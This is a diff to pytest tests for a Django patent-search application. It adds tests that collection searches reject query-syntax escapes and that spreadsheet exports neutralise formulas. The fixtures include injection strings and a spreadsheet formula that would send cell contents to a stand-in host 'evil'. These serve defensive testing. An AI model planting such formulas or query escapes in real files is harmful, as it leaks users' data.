@@ -5,6 +5,7 @@ import io
 
 import pytest
 from django.core.exceptions import PermissionDenied, ValidationError
+from django.urls import reverse
 
 from zhibao.conftest import login
 from zhibao.core.services.jobs import JOB_FUNCTIONS
@@ -170,11 +171,11 @@ def test_export_contents(rare_earth, settings):
     sheet = load_workbook(io.BytesIO(content)).active
     values = list(sheet.values)
     assert (rows, capped, len(values)) == (2, False, 3)
-    assert len(values[0]) == 7
+    assert len(values[0]) == 11  # the columns of every patent export
     by_pn = {row[0]: row for row in values[1:]}
-    assert by_pn["CN110000001A"][2] == "一种稀土永磁材料的制备方法"
-    assert by_pn["CN110000001A"][3] == "包头稀土研究院" and by_pn["CN110000001A"][4] == "2021-03-01"
-    assert by_pn["CN110000001A"][5] == "H01F1/057"
+    assert by_pn["CN110000001A"][3] == "一种稀土永磁材料的制备方法"
+    assert by_pn["CN110000001A"][4] == "包头稀土研究院" and by_pn["CN110000001A"][5] == "2021-03-01"
+    assert by_pn["CN110000001A"][7] == "H01F1/057"
 
     content, rows, capped = collection_export_xlsx(collection=rare_earth, limit=1)
     values = list(load_workbook(io.BytesIO(content)).active.values)
@@ -317,3 +318,38 @@ def test_api_operator_curates(operator, corpus):
     assert patched.json()["includes"] == ["CN110000005A"]
     assert client.delete("/api/v1/collections/dairy").status_code == 204
     assert client.get("/api/v1/collections/dairy").status_code == 404
+
+
+def test_searching_within_a_collection_cannot_escape_it(rare_earth, operator):
+    from zhibao.patents.search import QuerySyntaxError
+
+    collection_exclude(user=operator, collection=rare_earth, publication_numbers=["CN110000002B"])
+    for escape in ("永磁) OR (TIAB=酸奶", "稀土) OR (PN=CN110000002B"):
+        with pytest.raises(QuerySyntaxError):
+            collection_publication_numbers(collection=rare_earth, q=escape)
+    response = login(operator).get(reverse("patents:collection_detail", args=[rare_earth.slug]),
+                                   {"q": "永磁) OR (TIAB=酸奶"})
+    assert response.status_code == 200 and "CN210000004U" not in response.content.decode()
+
+
+def test_collection_api_refuses_pages_beyond_the_result_window(rare_earth, alice):
+    client = login(alice)
+    url = f"/api/v1/collections/{rare_earth.slug}/patents"
+    assert client.get(url, {"page": 100000000000}).status_code == 400
+    assert client.get(url, {"page": "x"}).json()["fields"]["page"]
+
+
+def test_collection_export_neutralises_formulas(operator, corpus):
+    from openpyxl import load_workbook
+
+    make_patent("CN110000009A", '=HYPERLINK("http://evil/?"&A1,"点击")', "H01F1/057", "@恶意公司",
+                dt.date(2021, 1, 1), "granted")
+    engine = get_engine()
+    engine.index_patents(Patent.objects.filter(publication_number="CN110000009A"))
+    engine.commit()
+    collection = collection_create(user=operator, slug="f", name="稀土/永磁", query="IPC=H01F")
+    content, rows, _capped = collection_export_xlsx(collection=collection)
+    sheet = load_workbook(io.BytesIO(content)).active  # a "/" in the name makes a valid sheet title
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "CN110000009A")
+    assert row[3].data_type == "s" and row[3].value.startswith("'=")
+    assert row[4].value.startswith("'@")
